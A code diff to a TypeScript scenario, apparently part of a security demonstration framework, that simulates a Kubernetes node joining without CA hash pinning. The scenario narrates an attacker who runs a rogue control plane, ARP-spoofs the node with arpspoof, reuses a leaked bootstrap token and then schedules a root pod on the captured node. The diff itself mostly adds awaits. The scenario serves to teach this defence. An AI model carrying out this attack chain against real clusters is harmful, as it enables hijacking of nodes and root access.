@@ -1,4 +1,3 @@
-import { randomBytes } from 'node:crypto';
 import { neighbour } from '../../attacker/position';
 import { systemClock } from '../../client/clock';
 import type { KubeClient } from '../../client/kube-client';
@@ -62,40 +61,41 @@ export const joinWithoutCaHash: Scenario = {
     const join = `kubeadm join ${server.host}:${server.port} --token ${token.id}.${token.secret} ${flag}`;
 
     const rogue = await startControlPlaneOfAttacker(stage, attackerHost);
-    stage.did('attacker', 'kubeadm init', `a control plane of its own, CA ${pinsOf(rogue.caPem)[0]}`);
+    await stage.did('attacker', 'kubeadm init', `a control plane of its own, CA ${pinsOf(rogue.caPem)[0]}`);
     const position = neighbour(newNode, attackerHost, server.host);
     position.take();
     attackerHost.nat.redirect({ to: { address: server.host, port: server.port }, toPort: server.port });
-    stage.did('attacker', `arpspoof -t ${newNode.name} ${server.host}`, position.describe());
+    await stage.did('attacker', `arpspoof -t ${newNode.name} ${server.host}`, position.describe());
 
     // The id stands in cluster-info, for anybody; the secret it has to guess.
-    await rogue.know({ id: token.id, secret: randomBytes(8).toString('hex') });
+    await rogue.know({ id: token.id, secret: stage.random.hex(8) });
     const withoutToken = await discover(stage, newNode, token, pins);
     if (withoutToken.kind === 'discovered') throw new Error('node-3 believed somebody without the token');
-    stage.refused('node-3', `${join}  # while the attacker does not know the token`, withoutToken.text);
+    await stage.refused('node-3', `${join}  # while the attacker does not know the token`, withoutToken.text);
 
     await rogue.know(token);
     const create = `kubeadm token create ${token.id}.${token.secret}  # from a CI log`;
-    stage.did('attacker', create, 'its cluster-info is signed as node-3 expects it');
+    await stage.did('attacker', create, 'its cluster-info is signed as node-3 expects it');
     const found = await discover(stage, newNode, token, pins);
-    if (found.kind === 'refused') stage.refused('node-3', join, found.text);
+    if (found.kind === 'refused') await stage.refused('node-3', join, found.text);
     else {
       if (found.caPem !== rogue.caPem) throw new Error('the attacker was not on the path of node-3');
       const saw = `bootstrap-kubelet.conf: the CA is ${pinsOf(found.caPem)[0]}`;
-      stage.gained('node-3', join, saw, 'a machine that believes its authority from now on');
+      await stage.gained('node-3', join, saw, 'a machine that believes its authority from now on');
     }
 
     const kubelet = found.kind === 'discovered' ? await runKubelet(stage, newNode, found.config) : null;
     const missing = await admin.request('GET', '/api/v1/nodes/node-3', { signal });
-    stage.did('admin', 'kubectl get node node-3', missing.words);
+    await stage.did('admin', 'kubectl get node node-3', missing.words);
     const theirs = await rogue.admin.request('GET', '/api/v1/nodes/node-3', { signal });
     const look = 'kubectl --kubeconfig own.conf get node node-3';
     if (kubelet === null || !theirs.ok) return stage.refused('attacker', look, theirs.words);
-    stage.gained('attacker', look, 'node-3', 'a node of its own cluster');
+    await stage.gained('attacker', look, 'node-3', 'a node of its own cluster');
     const output = await runPod(rogue.admin, kubelet, signal);
     const run = `kubectl --kubeconfig own.conf run own --overrides='{"spec":{"nodeName":"node-3", …}}'`;
     const saw = `crictl logs on node-3: ${output}`;
-    if (output !== '') stage.gained('attacker', run, saw, 'any pod it likes on that machine, root included');
+    if (output !== '')
+      await stage.gained('attacker', run, saw, 'any pod it likes on that machine, root included');
   },
 };
 
